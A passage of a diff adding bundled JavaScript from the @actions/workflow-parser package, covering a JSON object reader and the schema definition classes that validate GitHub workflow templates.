+        if (!this._current.done) {
+            const parseEvent = this._current.value;
+            if (parseEvent.type === EventType.SequenceEnd) {
+                this._current = this._generator.next();
+                return true;
+            }
+        }
+        return false;
+    }
+    allowMappingStart() {
+        if (!this._current.done) {
+            const parseEvent = this._current.value;
+            if (parseEvent.type === EventType.MappingStart) {
+                this._current = this._generator.next();
+                return parseEvent.token;
+            }
+        }
+        return undefined;
+    }
+    allowMappingEnd() {
+        if (!this._current.done) {
+            const parseEvent = this._current.value;
+            if (parseEvent.type === EventType.MappingEnd) {
+                this._current = this._generator.next();
+                return true;
+            }
+        }
+        return false;
+    }
+    validateEnd() {
+        if (!this._current.done) {
+            const parseEvent = this._current.value;
+            if (parseEvent.type === EventType.DocumentEnd) {
+                this._current = this._generator.next();
+                return;
+            }
+        }
+        throw new Error("Expected end of reader");
+    }
+    validateStart() {
+        if (!this._current.done) {
+            const parseEvent = this._current.value;
+            if (parseEvent.type === EventType.DocumentStart) {
+                this._current = this._generator.next();
+                return;
+            }
+        }
+        throw new Error("Expected start of reader");
+    }
+    /**
+     * Returns all tokens (depth first)
+     */
+    *getParseEvents(value, root) {
+        if (root) {
+            yield new ParseEvent(EventType.DocumentStart, undefined);
+        }
+        switch (typeof value) {
+            case "undefined":
+                yield new ParseEvent(EventType.Literal, new NullToken(this._fileId, undefined, undefined));
+                break;
+            case "boolean":
+                yield new ParseEvent(EventType.Literal, new BooleanToken(this._fileId, undefined, value, undefined));
+                break;
+            case "number":
+                yield new ParseEvent(EventType.Literal, new NumberToken(this._fileId, undefined, value, undefined));
+                break;
+            case "string":
+                yield new ParseEvent(EventType.Literal, new StringToken(this._fileId, undefined, value, undefined));
+                break;
+            case "object":
+                // null
+                if (value === null) {
+                    yield new ParseEvent(EventType.Literal, new NullToken(this._fileId, undefined, undefined));
+                }
+                // array
+                else if (Array.isArray(value)) {
+                    yield new ParseEvent(EventType.SequenceStart, new SequenceToken(this._fileId, undefined, undefined));
+                    for (const item of value) {
+                        for (const e of this.getParseEvents(item)) {
+                            yield e;
+                        }
+                    }
+                    yield new ParseEvent(EventType.SequenceEnd, undefined);
+                }
+                // object
+                else {
+                    yield new ParseEvent(EventType.MappingStart, new MappingToken(this._fileId, undefined, undefined));
+                    for (const key of Object.keys(value)) {
+                        yield new ParseEvent(EventType.Literal, new StringToken(this._fileId, undefined, key, undefined));
+                        for (const e of this.getParseEvents(value[key])) {
+                            yield e;
+                        }
+                    }
+                    yield new ParseEvent(EventType.MappingEnd, undefined);
+                }
+                break;
+            default:
+                throw new Error(`Unexpected value type '${typeof value}' when reading object`);
+        }
+        if (root) {
+            yield new ParseEvent(EventType.DocumentEnd, undefined);
+        }
+    }
+}
+//# sourceMappingURL=json-object-reader.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/trace-writer.js
+class NoOperationTraceWriter {
+    error() {
+        // do nothing
+    }
+    info() {
+        // do nothing
+    }
+    verbose() {
+        // do nothing
+    }
+}
+//# sourceMappingURL=trace-writer.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/schema/definition.js
+
+/**
+ * Defines the allowable schema for a user defined type
+ */
+class Definition {
+    constructor(key, definition) {
+        /**
+         * Used by the template reader to determine allowed expression values and functions.
+         * Also used by the template reader to validate function min/max parameters.
+         */
+        this.readerContext = [];
+        /**
+         * Used by the template evaluator to determine allowed expression values and functions.
+         * The min/max parameter info is omitted.
+         */
+        this.evaluatorContext = [];
+        this.key = key;
+        if (definition) {
+            for (let i = 0; i < definition.count;) {
+                const definitionKey = definition.get(i).key.assertString(`${DEFINITION} key`);
+                switch (definitionKey.value) {
+                    case CONTEXT: {
+                        const context = definition.get(i).value.assertSequence(`${DEFINITION} ${CONTEXT}`);
+                        definition.remove(i);
+                        const seenReaderContext = {};
+                        const seenEvaluatorContext = {};
+                        for (const item of context) {
+                            const itemStr = item.assertString(`${CONTEXT} item`).value;
+                            const upperItemStr = itemStr.toUpperCase();
+                            if (seenReaderContext[upperItemStr]) {
+                                throw new Error(`Duplicate context item '${itemStr}'`);
+                            }
+                            seenReaderContext[upperItemStr] = true;
+                            this.readerContext.push(itemStr);
+                            // Remove min/max parameter info
+                            const paramIndex = itemStr.indexOf("(");
+                            const modifiedItemStr = paramIndex > 0 ? itemStr.substr(0, paramIndex + 1) + ")" : itemStr;
+                            const upperModifiedItemStr = modifiedItemStr.toUpperCase();
+                            if (seenEvaluatorContext[upperModifiedItemStr]) {
+                                throw new Error(`Duplicate context item '${modifiedItemStr}'`);
+                            }
+                            seenEvaluatorContext[upperModifiedItemStr] = true;
+                            this.evaluatorContext.push(modifiedItemStr);
+                        }
+                        break;
+                    }
+                    case DESCRIPTION: {
+                        const value = definition.get(i).value;
+                        this.description = value.assertString(DESCRIPTION).value;
+                        definition.remove(i);
+                        break;
+                    }
+                    default: {
+                        i++;
+                        break;
+                    }
+                }
+            }
+        }
+    }
+}
+//# sourceMappingURL=definition.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/schema/scalar-definition.js
+
+class ScalarDefinition extends Definition {
+    constructor(key, definition) {
+        super(key, definition);
+    }
+}
+//# sourceMappingURL=scalar-definition.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/schema/boolean-definition.js
+
+
+
+
+class BooleanDefinition extends ScalarDefinition {
+    constructor(key, definition) {
+        super(key, definition);
+        if (definition) {
+            for (const definitionPair of definition) {
+                const definitionKey = definitionPair.key.assertString(`${DEFINITION} key`);
+                switch (definitionKey.value) {
+                    case BOOLEAN: {
+                        const mapping = definitionPair.value.assertMapping(`${DEFINITION} ${BOOLEAN}`);
+                        for (const mappingPair of mapping) {
+                            const mappingKey = mappingPair.key.assertString(`${DEFINITION} ${BOOLEAN} key`);
+                            switch (mappingKey.value) {
+                                default:
+                                    // throws
+                                    mappingKey.assertUnexpectedValue(`${DEFINITION} ${BOOLEAN} key`);
+                                    break;
+                            }
+                        }
+                        break;
+                    }
+                    default:
+                        definitionKey.assertUnexpectedValue(`${DEFINITION} key`); // throws
+                }
+            }
+        }
+    }
+    get definitionType() {
+        return DefinitionType.Boolean;
+    }
+    isMatch(literal) {
+        return literal.templateTokenType === types_TokenType.Boolean;
+    }
+    validate() {
+        // no-op
+    }
+}
+//# sourceMappingURL=boolean-definition.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/schema/property-definition.js
+
+
+class PropertyDefinition {
+    constructor(token) {
+        this.type = "";
+        this.required = false;
+        if (token.templateTokenType === types_TokenType.String) {
+            this.type = token.value;
+        }
+        else {
+            const mapping = token.assertMapping(MAPPING_PROPERTY_VALUE);
+            for (const mappingPair of mapping) {
+                const mappingKey = mappingPair.key.assertString(`${MAPPING_PROPERTY_VALUE} key`);
+                switch (mappingKey.value) {
+                    case TYPE:
+                        this.type = mappingPair.value.assertString(`${MAPPING_PROPERTY_VALUE} ${TYPE}`).value;
+                        break;
+                    case REQUIRED:
+                        this.required = mappingPair.value.assertBoolean(`${MAPPING_PROPERTY_VALUE} ${REQUIRED}`).value;
+                        break;
+                    case DESCRIPTION:
+                        this.description = mappingPair.value.assertString(`${MAPPING_PROPERTY_VALUE} ${DESCRIPTION}`).value;
+                        break;
+                    default:
+                        mappingKey.assertUnexpectedValue(`${MAPPING_PROPERTY_VALUE} key`); // throws
+                }
+            }
+        }
+    }
+}
+//# sourceMappingURL=property-definition.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/schema/mapping-definition.js
+
+
+
+
+class MappingDefinition extends Definition {
+    constructor(key, definition) {
+        super(key, definition);
+        this.properties = {};
+        this.looseKeyType = "";
+        this.looseValueType = "";
+        if (definition) {
+            for (const definitionPair of definition) {
+                const definitionKey = definitionPair.key.assertString(`${DEFINITION} key`);
+                switch (definitionKey.value) {
+                    case MAPPING: {
+                        const mapping = definitionPair.value.assertMapping(`${DEFINITION} ${MAPPING}`);
+                        for (const mappingPair of mapping) {
+                            const mappingKey = mappingPair.key.assertString(`${DEFINITION} ${MAPPING} key`);
+                            switch (mappingKey.value) {
+                                case PROPERTIES: {
+                                    const properties = mappingPair.value.assertMapping(`${DEFINITION} ${MAPPING} ${PROPERTIES}`);
+                                    for (const propertiesPair of properties) {
+                                        const propertyName = propertiesPair.key.assertString(`${DEFINITION} ${MAPPING} ${PROPERTIES} key`);
+                                        this.properties[propertyName.value] = new PropertyDefinition(propertiesPair.value);
+                                    }
+                                    break;
+                                }
+                                case LOOSE_KEY_TYPE: {
+                                    const looseKeyType = mappingPair.value.assertString(`${DEFINITION} ${MAPPING} ${LOOSE_KEY_TYPE}`);
+                                    this.looseKeyType = looseKeyType.value;
+                                    break;
+                                }
+                                case LOOSE_VALUE_TYPE: {
+                                    const looseValueType = mappingPair.value.assertString(`${DEFINITION} ${MAPPING} ${LOOSE_VALUE_TYPE}`);
+                                    this.looseValueType = looseValueType.value;
+                                    break;
+                                }
+                                default:
+                                    // throws
+                                    mappingKey.assertUnexpectedValue(`${DEFINITION} ${MAPPING} key`);
+                                    break;
+                            }
+                        }
+                        break;
+                    }
+                    default:
+                        definitionKey.assertUnexpectedValue(`${DEFINITION} key`); // throws
+                }
+            }
+        }
+    }
+    get definitionType() {
+        return DefinitionType.Mapping;
+    }
+    validate(schema, name) {
+        // Lookup loose key type
+        if (this.looseKeyType) {
+            schema.getDefinition(this.looseKeyType);
+            // Lookup loose value type
+            if (this.looseValueType) {
+                schema.getDefinition(this.looseValueType);
+            }
+            else {
+                throw new Error(`Property '${LOOSE_KEY_TYPE}' is defined but '${LOOSE_VALUE_TYPE}' is not defined on '${name}'`);
+            }
+        }
+        // Otherwise validate loose value type not be defined
+        else if (this.looseValueType) {
+            throw new Error(`Property '${LOOSE_VALUE_TYPE}' is defined but '${LOOSE_KEY_TYPE}' is not defined on '${name}'`);
+        }
+        // Lookup each property
+        for (const propertyName of Object.keys(this.properties)) {
+            const propertyDef = this.properties[propertyName];
+            if (!propertyDef.type) {
+                throw new Error(`Type not specified for the property '${propertyName}' on '${name}'`);
+            }
+            schema.getDefinition(propertyDef.type);
+        }
+    }
+}
+//# sourceMappingURL=mapping-definition.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/schema/null-definition.js
+
+
+
+
+class NullDefinition extends ScalarDefinition {
+    constructor(key, definition) {
+        super(key, definition);
+        if (definition) {
+            for (const definitionPair of definition) {
+                const definitionKey = definitionPair.key.assertString(`${DEFINITION} key`);
+                switch (definitionKey.value) {
+                    case NULL: {
+                        const mapping = definitionPair.value.assertMapping(`${DEFINITION} ${NULL}`);
+                        for (const mappingPair of mapping) {
+                            const mappingKey = mappingPair.key.assertString(`${DEFINITION} ${NULL} key`);
+                            switch (mappingKey.value) {
+                                default:
+                                    // throws
+                                    mappingKey.assertUnexpectedValue(`${DEFINITION} ${NULL} key`);
+                                    break;
+                            }
+                        }
+                        break;
+                    }
+                    default:
+                        definitionKey.assertUnexpectedValue(`${DEFINITION} key`); // throws
+                }
+            }
+        }
+    }
+    get definitionType() {
+        return DefinitionType.Null;
+    }
+    isMatch(literal) {
+        return literal.templateTokenType === types_TokenType.Null;
+    }
+    validate() {
+        // no-op
+    }
+}
+//# sourceMappingURL=null-definition.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/schema/number-definition.js
+
+
+
+
+class NumberDefinition extends ScalarDefinition {
+    constructor(key, definition) {
+        super(key, definition);
+        if (definition) {
+            for (const definitionPair of definition) {
+                const definitionKey = definitionPair.key.assertString(`${DEFINITION} key`);
+                switch (definitionKey.value) {
+                    case NUMBER: {
+                        const mapping = definitionPair.value.assertMapping(`${DEFINITION} ${NUMBER}`);
+                        for (const mappingPair of mapping) {
+                            const mappingKey = mappingPair.key.assertString(`${DEFINITION} ${NUMBER} key`);
+                            switch (mappingKey.value) {
+                                default:
+                                    // throws
+                                    mappingKey.assertUnexpectedValue(`${DEFINITION} ${NUMBER} key`);
+                                    break;
+                            }
+                        }
+                        break;
+                    }
+                    default:
+                        definitionKey.assertUnexpectedValue(`${DEFINITION} key`); // throws
+                }
+            }
+        }
+    }
+    get definitionType() {
+        return DefinitionType.Number;
+    }
+    isMatch(literal) {
+        return literal.templateTokenType === types_TokenType.Number;
+    }
+    validate() {
+        // no-op
+    }
+}
+//# sourceMappingURL=number-definition.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/schema/one-of-definition.js
+
+
+
+/**
+ * Must resolve to exactly one of the referenced definitions
+ */
+class OneOfDefinition extends Definition {
+    constructor(key, definition) {
+        super(key, definition);
+        this.oneOf = [];
+        this.oneOfPrefix = [];
+        if (definition) {
+            for (const definitionPair of definition) {
+                const definitionKey = definitionPair.key.assertString(`${DEFINITION} key`);
+                switch (definitionKey.value) {
+                    case ONE_OF: {
+                        const oneOf = definitionPair.value.assertSequence(`${DEFINITION} ${ONE_OF}`);
+                        for (const item of oneOf) {
+                            const oneOfItem = item.assertString(`${DEFINITION} ${ONE_OF} item`);
+                            this.oneOf.push(oneOfItem.value);
+                        }
+                        break;
+                    }
+                    case ALLOWED_VALUES: {
+                        const oneOf = definitionPair.value.assertSequence(`${DEFINITION} ${ALLOWED_VALUES}`);
+                        for (const item of oneOf) {
+                            const oneOfItem = item.assertString(`${DEFINITION} ${ONE_OF} item`);
+                            this.oneOf.push(this.key + "-" + oneOfItem.value);
+                        }
+                        break;
+                    }
+                    default:
+                        // throws
+                        definitionKey.assertUnexpectedValue(`${DEFINITION} key`);
+                        break;
+                }
+            }
+        }
+    }
+    get definitionType() {
+        return DefinitionType.OneOf;
+    }
+    validate(schema, name) {
+        if (this.oneOf.length === 0) {
+            throw new Error(`'${name}' does not contain any references`);
+        }
+        let foundLooseKeyType = false;
+        const mappingDefinitions = [];
+        let allowedValuesDefinition;
+        let sequenceDefinition;
+        let nullDefinition;
+        let booleanDefinition;
+        let numberDefinition;
+        const stringDefinitions = [];
+        const seenNestedTypes = {};
+        for (const nestedType of this.oneOf) {
+            if (seenNestedTypes[nestedType]) {
+                throw new Error(`'${name}' contains duplicate nested type '${nestedType}'`);
+            }
+            seenNestedTypes[nestedType] = true;
+            const nestedDefinition = schema.getDefinition(nestedType);
+            if (nestedDefinition.readerContext.length > 0) {
+                throw new Error(`'${name}' is a one-of definition and references another definition that defines context. This is currently not supported.`);
+            }
+            switch (nestedDefinition.definitionType) {
+                case DefinitionType.Mapping: {
+                    const mappingDefinition = nestedDefinition;
+                    mappingDefinitions.push(mappingDefinition);
+                    if (mappingDefinition.looseKeyType) {
+                        foundLooseKeyType = true;
+                    }
+                    break;
+                }
+                case DefinitionType.Sequence: {
+                    // Multiple sequence definitions not allowed
+                    if (sequenceDefinition) {
+                        throw new Error(`'${name}' refers to more than one definition of type '${SEQUENCE}'`);
+                    }
+                    sequenceDefinition = nestedDefinition;
+                    break;
+                }
+                case DefinitionType.Null: {
+                    // Multiple null definitions not allowed
+                    if (nullDefinition) {
+                        throw new Error(`'${name}' refers to more than one definition of type '${NULL}'`);
+                    }
+                    nullDefinition = nestedDefinition;
+                    break;
+                }
+                case DefinitionType.Boolean: {
+                    // Multiple boolean definitions not allowed
+                    if (booleanDefinition) {
+                        throw new Error(`'${name}' refers to more than one definition of type '${BOOLEAN}'`);
+                    }
+                    booleanDefinition = nestedDefinition;
+                    break;
+                }
+                case DefinitionType.Number: {
+                    // Multiple number definitions not allowed
+                    if (numberDefinition) {
+                        throw new Error(`'${name}' refers to more than one definition of type '${NUMBER}'`);
+                    }
+                    numberDefinition = nestedDefinition;
+                    break;
+                }
+                case DefinitionType.String: {
+                    const stringDefinition = nestedDefinition;
+                    // Multiple string definitions
+                    if (stringDefinitions.length > 0 && (!stringDefinitions[0].constant || !stringDefinition.constant)) {
+                        throw new Error(`'${name}' refers to more than one '${SCALAR}', but some do not set '${CONSTANT}'`);
+                    }
+                    stringDefinitions.push(stringDefinition);
+                    break;
+                }
+                case DefinitionType.OneOf: {
+                    // Multiple allowed-values definitions not allowed
+                    if (allowedValuesDefinition) {
+                        throw new Error(`'${name}' contains multiple allowed-values definitions`);
+                    }
+                    allowedValuesDefinition = nestedDefinition;
+                    break;
+                }
+                default:
+                    throw new Error(`'${name}' refers to a definition with type '${nestedDefinition.definitionType}'`);
+            }
+        }
+        if (mappingDefinitions.length > 1) {
+            if (foundLooseKeyType) {
+                throw new Error(`'${name}' refers to two mappings and at least one sets '${LOOSE_KEY_TYPE}'. This is not currently supported.`);
+            }
+            const seenProperties = {};
+            for (const mappingDefinition of mappingDefinitions) {
+                for (const propertyName of Object.keys(mappingDefinition.properties)) {
+                    const newPropertyDef = mappingDefinition.properties[propertyName];
+                    // Already seen
+                    const existingPropertyDef = seenProperties[propertyName];
+                    if (existingPropertyDef) {
+                        // Types match
+                        if (existingPropertyDef.type === newPropertyDef.type) {
+                            continue;
+                        }
+                        // Collision
+                        throw new Error(`'${name}' contains two mappings with the same property, but each refers to a different type. All matching properties must refer to the same type.`);
+                    }
+                    // New
+                    else {
+                        seenProperties[propertyName] = newPropertyDef;
+                    }
+                }
+            }
+        }
+    }
+}
+//# sourceMappingURL=one-of-definition.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/schema/sequence-definition.js
+
+
+
+class SequenceDefinition extends Definition {
+    constructor(key, definition) {
+        super(key, definition);
+        this.itemType = "";
+        if (definition) {
+            for (const definitionPair of definition) {
+                const definitionKey = definitionPair.key.assertString(`${DEFINITION} key`);
+                switch (definitionKey.value) {
+                    case SEQUENCE: {
+                        const mapping = definitionPair.value.assertMapping(`${DEFINITION} ${SEQUENCE}`);
+                        for (const mappingPair of mapping) {
+                            const mappingKey = mappingPair.key.assertString(`${DEFINITION} ${SEQUENCE} key`);
+                            switch (mappingKey.value) {
+                                case ITEM_TYPE: {
+                                    const itemType = mappingPair.value.assertString(`${DEFINITION} ${SEQUENCE} ${ITEM_TYPE}`);
+                                    this.itemType = itemType.value;
+                                    break;
+                                }
+                                default:
+                                    // throws
+                                    mappingKey.assertUnexpectedValue(`${DEFINITION} ${SEQUENCE} key`);
+                                    break;
+                            }
+                        }
+                        break;
+                    }
+                    default:
+                        definitionKey.assertUnexpectedValue(`${DEFINITION} key`); // throws
+                }
+            }
+        }
+    }
+    get definitionType() {
+        return DefinitionType.Sequence;
+    }
+    validate(schema, name) {
+        if (!this.itemType) {
+            throw new Error(`'${name}' does not defined '${ITEM_TYPE}'`);
+        }
+        // Lookup item type
+        schema.getDefinition(this.itemType);
+    }
+}
+//# sourceMappingURL=sequence-definition.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/schema/string-definition.js
+
+
+
+
+class StringDefinition extends ScalarDefinition {
+    constructor(key, definition) {
+        super(key, definition);
+        this.constant = "";
+        this.ignoreCase = false;
+        this.requireNonEmpty = false;
+        this.isExpression = false;
+        if (definition) {
+            for (const definitionPair of definition) {
+                const definitionKey = definitionPair.key.assertString(`${DEFINITION} key`);
+                switch (definitionKey.value) {
+                    case STRING: {
+                        const mapping = definitionPair.value.assertMapping(`${DEFINITION} ${STRING}`);
+                        for (const mappingPair of mapping) {
+                            const mappingKey = mappingPair.key.assertString(`${DEFINITION} ${STRING} key`);
+                            switch (mappingKey.value) {
+                                case CONSTANT: {
+                                    const constantStringToken = mappingPair.value.assertString(`${DEFINITION} ${STRING} ${CONSTANT}`);
+                                    this.constant = constantStringToken.value;
+                                    break;
+                                }
+                                case IGNORE_CASE: {
+                                    const ignoreCaseBooleanToken = mappingPair.value.assertBoolean(`${DEFINITION} ${STRING} ${IGNORE_CASE}`);
+                                    this.ignoreCase = ignoreCaseBooleanToken.value;
+                                    break;
+                                }
+                                case REQUIRE_NON_EMPTY: {
+                                    const requireNonEmptyBooleanToken = mappingPair.value.assertBoolean(`${DEFINITION} ${STRING} ${REQUIRE_NON_EMPTY}`);
+                                    this.requireNonEmpty = requireNonEmptyBooleanToken.value;
+                                    break;
+                                }
+                                case IS_EXPRESSION: {
+                                    const isExpressionToken = mappingPair.value.assertBoolean(`${DEFINITION} ${STRING} ${IS_EXPRESSION}`);
+                                    this.isExpression = isExpressionToken.value;
+                                    break;
+                                }
+                                default:
+                                    // throws
+                                    mappingKey.assertUnexpectedValue(`${DEFINITION} ${STRING} key`);
+                                    break;
+                            }
+                        }
+                        break;
+                    }
+                    default:
+                        definitionKey.assertUnexpectedValue(`${DEFINITION} key`); // throws
+                }
+            }
+        }
+    }
+    get definitionType() {
+        return DefinitionType.String;
+    }
+    isMatch(literal) {
+        if (literal.templateTokenType === types_TokenType.String) {
+            const value = literal.value;
+            if (this.constant) {
+                return this.ignoreCase ? this.constant.toUpperCase() === value.toUpperCase() : this.constant === value;
+            }
+            else if (this.requireNonEmpty) {
+                return !!value;
+            }
+            else {
+                return true;
+            }
+        }
+        return false;
+    }
+    validate() {
+        if (this.constant && this.requireNonEmpty) {
+            throw new Error(`Properties '${CONSTANT}' and '${REQUIRE_NON_EMPTY}' cannot both be set`);
+        }
+    }
+}
+//# sourceMappingURL=string-definition.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/schema/template-schema.js
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+/**
+ * This models the root schema object and contains definitions
+ */
+class TemplateSchema {
+    constructor(mapping) {
+        this.definitions = {};
+        this.version = "";
+        // Add built-in type: null
+        this.definitions[NULL] = new NullDefinition(NULL);
+        // Add built-in type: boolean
+        this.definitions[BOOLEAN] = new BooleanDefinition(BOOLEAN);
+        // Add built-in type: number
+        this.definitions[NUMBER] = new NumberDefinition(NUMBER);
+        // Add built-in type: string
+        this.definitions[STRING] = new StringDefinition(STRING);
+        // Add built-in type: sequence
+        const sequenceDefinition = new SequenceDefinition(SEQUENCE);
+        sequenceDefinition.itemType = ANY;
+        this.definitions[sequenceDefinition.key] = sequenceDefinition;
+        // Add built-in type: mapping
+        const mappingDefinition = new MappingDefinition(MAPPING);
+        mappingDefinition.looseKeyType = STRING;
+        mappingDefinition.looseValueType = ANY;
+        this.definitions[mappingDefinition.key] = mappingDefinition;
+        // Add built-in type: any
+        const anyDefinition = new OneOfDefinition(ANY);
+        anyDefinition.oneOf.push(NULL);
+        anyDefinition.oneOf.push(BOOLEAN);
+        anyDefinition.oneOf.push(NUMBER);
+        anyDefinition.oneOf.push(STRING);
+        anyDefinition.oneOf.push(SEQUENCE);
+        anyDefinition.oneOf.push(MAPPING);
+        this.definitions[anyDefinition.key] = anyDefinition;
+        if (mapping) {
+            for (const pair of mapping) {
+                const key = pair.key.assertString(`${TEMPLATE_SCHEMA} key`);
+                switch (key.value) {
+                    case template_constants_VERSION: {
+                        this.version = pair.value.assertString(`${TEMPLATE_SCHEMA} ${template_constants_VERSION}`).value;
+                        break;
+                    }
+                    case DEFINITIONS: {
+                        const definitions = pair.value.assertMapping(`${TEMPLATE_SCHEMA} ${DEFINITIONS}`);
+                        for (const definitionsPair of definitions) {
+                            const definitionsKey = definitionsPair.key.assertString(`${TEMPLATE_SCHEMA} ${DEFINITIONS} key`);
+                            const definitionsValue = definitionsPair.value.assertMapping(`${TEMPLATE_SCHEMA} ${DEFINITIONS} value`);
+                            let definition;
+                            for (const definitionPair of definitionsValue) {
+                                const definitionKey = definitionPair.key.assertString(`${DEFINITION} key`);
+                                const mappingToken = definitionsPair.value;
+                                switch (definitionKey.value) {
+                                    case NULL:
+                                        definition = new NullDefinition(definitionsKey.value, definitionsValue);
+                                        break;
+                                    case BOOLEAN:
+                                        definition = new BooleanDefinition(definitionsKey.value, definitionsValue);
+                                        break;
+                                    case NUMBER:
+                                        definition = new NumberDefinition(definitionsKey.value, definitionsValue);
+                                        break;
+                                    case STRING:
+                                        definition = new StringDefinition(definitionsKey.value, definitionsValue);
+                                        break;
+                                    case SEQUENCE:
+                                        definition = new SequenceDefinition(definitionsKey.value, definitionsValue);
+                                        break;
+                                    case MAPPING:
+                                        definition = new MappingDefinition(definitionsKey.value, definitionsValue);
+                                        break;
+                                    case ONE_OF:
+                                        definition = new OneOfDefinition(definitionsKey.value, definitionsValue);
+                                        break;
+                                    case ALLOWED_VALUES:
+                                        // Change the allowed-values definition into a one-of definition and its corresponding string definitions
+                                        for (const item of mappingToken) {
+                                            if (item.value.templateTokenType === types_TokenType.Sequence) {
+                                                // Create a new string definition for each StringToken in the sequence
+                                                const sequenceToken = item.value;
+                                                for (const activity of sequenceToken) {
+                                                    if (activity.templateTokenType === types_TokenType.String) {
+                                                        const stringToken = activity;
+                                                        const allowedValuesKey = definitionsKey.value + "-" + stringToken.value;
+                                                        const allowedValuesDef = new StringDefinition(allowedValuesKey);
+                                                        allowedValuesDef.constant = stringToken.toDisplayString();
+                                                        this.definitions[allowedValuesKey] = allowedValuesDef;
+                                                    }
+                                                }
+                                            }
+                                        }
+                                        definition = new OneOfDefinition(definitionsKey.value, definitionsValue);
+                                        break;
+                                    case CONTEXT:
+                                    case DESCRIPTION:
+                                        continue;
+                                    default:
+                                        // throws
+                                        definitionKey.assertUnexpectedValue(`${DEFINITION} mapping key`);
+                                        break;
+                                }
+                                break;
+                            }
+                            if (!definition) {
+                                throw new Error(`Not enough information to construct definition '${definitionsKey.value}'`);
+                            }
+                            this.definitions[definitionsKey.value] = definition;
+                        }
+                        break;
+                    }
+                    default:
+                        // throws
+                        key.assertUnexpectedValue(`${TEMPLATE_SCHEMA} key`);
+                        break;
+                }
+            }
+        }
+    }
+    /**
+     * Looks up a definition by name
+     */
+    getDefinition(name) {
+        const result = this.definitions[name];
+        if (result) {
+            return result;
+        }
+        throw new Error(`Schema definition '${name}' not found`);
+    }
+    /**
+     * Expands one-of definitions and returns all scalar definitions
+     */
+    getScalarDefinitions(definition) {
+        const result = [];
+        switch (definition.definitionType) {
+            case DefinitionType.Null:
+            case DefinitionType.Boolean:
+            case DefinitionType.Number:
+            case DefinitionType.String:
+                result.push(definition);
+                break;
+            case DefinitionType.OneOf: {
+                const oneOf = definition;
+                // Expand nested one-of definitions
+                for (const nestedName of oneOf.oneOf) {
+                    const nestedDefinition = this.getDefinition(nestedName);
+                    result.push(...this.getScalarDefinitions(nestedDefinition));
+                }
+                break;
+            }
+        }
+        return result;
+    }
+    /**
+     * Expands one-of definitions and returns all matching definitions by type
+     */
+    getDefinitionsOfType(definition, type) {
+        const result = [];
+        if (definition.definitionType === type) {
+            result.push(definition);
+        }
+        else if (definition.definitionType === DefinitionType.OneOf) {
+            const oneOf = definition;
+            for (const nestedName of oneOf.oneOf) {
+                const nestedDefinition = this.getDefinition(nestedName);
+                if (nestedDefinition.definitionType === type) {
+                    result.push(nestedDefinition);
+                }
+            }
+        }
+        return result;
+    }
+    /**
+     * Attempts match the property name to a property defined by any of the specified definitions.
+     * If matched, any unmatching definitions are filtered from the definitions array.
+     * Returns the type information for the matched property.
+     */
+    matchPropertyAndFilter(definitions, propertyName) {
+        let result;
+        // Check for a matching well-known property
+        let notFoundInSome = false;
+        for (const definition of definitions) {
+            const propertyDef = definition.properties[propertyName];
+            if (propertyDef) {
+                result = propertyDef;
+            }
+            else {
+                notFoundInSome = true;
+            }
+        }
+        // Filter the matched definitions if needed
+        if (result && notFoundInSome) {
+            for (let i = 0; i < definitions.length;) {
+                if (definitions[i].properties[propertyName]) {
+                    i++;
+                }
+                else {
+                    definitions.splice(i, 1);
+                }
+            }
+        }
+        return result;
+    }
+    validate() {
+        const oneOfDefinitions = {};
+        for (const name of Object.keys(this.definitions)) {
+            if (!name.match(TemplateSchema._definitionNamePattern)) {
+                throw new Error(`Invalid definition name '${name}'`);
+            }
+            const definition = this.definitions[name];
+            // Delay validation for 'one-of' definitions
+            if (definition.definitionType === DefinitionType.OneOf) {
+                oneOfDefinitions[name] = definition;
+            }
+            // Otherwise validate now
+            else {
+                definition.validate(this, name);
+            }
+        }
+        // Validate 'one-of' definitions
+        for (const name of Object.keys(oneOfDefinitions)) {
+            const oneOf = oneOfDefinitions[name];
+            oneOf.validate(this, name);
+        }
+    }
+    /**
+     * Loads a user-defined schema file
+     */
+    static load(objectReader) {
+        const context = new TemplateContext(new TemplateValidationErrors(10, 500), TemplateSchema.getInternalSchema(), new NoOperationTraceWriter());
+        const template = readTemplate(context, TEMPLATE_SCHEMA, objectReader, undefined);
+        context.errors.check();
+        // eslint-disable-next-line @typescript-eslint/no-non-null-assertion
+        const mapping = template.assertMapping(TEMPLATE_SCHEMA);
+        const schema = new TemplateSchema(mapping);
+        schema.validate();
+        return schema;
+    }
+    /**
+     * Gets the internal schema used for reading user-defined schema files
+     */
+    static getInternalSchema() {
+        if (TemplateSchema._internalSchema === undefined) {
+            const schema = new TemplateSchema();
+            // template-schema
+            let mappingDefinition = new MappingDefinition(TEMPLATE_SCHEMA);
+            mappingDefinition.properties[template_constants_VERSION] = new PropertyDefinition(new StringToken(undefined, undefined, NON_EMPTY_STRING, undefined));
+            mappingDefinition.properties[DEFINITIONS] = new PropertyDefinition(new StringToken(undefined, undefined, DEFINITIONS, undefined));
+            schema.definitions[mappingDefinition.key] = mappingDefinition;
+            // definitions
+            mappingDefinition = new MappingDefinition(DEFINITIONS);
+            mappingDefinition.looseKeyType = NON_EMPTY_STRING;
+            mappingDefinition.looseValueType = DEFINITION;
+            schema.definitions[mappingDefinition.key] = mappingDefinition;
+            // definition
+            let oneOfDefinition = new OneOfDefinition(DEFINITION);
+            oneOfDefinition.oneOf.push(NULL_DEFINITION);
+            oneOfDefinition.oneOf.push(BOOLEAN_DEFINITION);
+            oneOfDefinition.oneOf.push(NUMBER_DEFINITION);
+            oneOfDefinition.oneOf.push(STRING_DEFINITION);
